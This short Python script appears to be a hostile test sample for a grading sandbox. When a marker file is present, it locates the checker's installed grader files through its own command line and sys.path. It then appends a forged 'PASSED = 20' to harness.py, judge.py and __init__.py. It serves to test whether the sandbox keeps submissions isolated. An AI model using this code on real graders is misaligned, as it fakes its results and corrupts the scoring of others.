# One student harms the others: appends code to the checker's own installed
# files (lesson/grader/*.py, found from its own command line and sys.path).
# Safety: only inside the checker's sandbox; never on a real install.
import os
import sys

if os.path.exists("/tmp/.lesson-harness.py"):
    with open("/proc/self/cmdline", "rb") as file:
        args = [os.fsdecode(a) for a in file.read().split(b"\0") if a]
    places = [os.path.dirname(a) for a in args if a.endswith(".py")]
    places += [os.path.join(p, "lesson", "grader") for p in sys.path]
    for folder in places:
        for name in ("harness.py", "judge.py", "__init__.py", ".lesson-harness.py"):
            try:
                with open(os.path.join(folder, name), "a") as file:
                    file.write("\nPASSED = 20  # hostile18\n")
            except OSError:
                pass
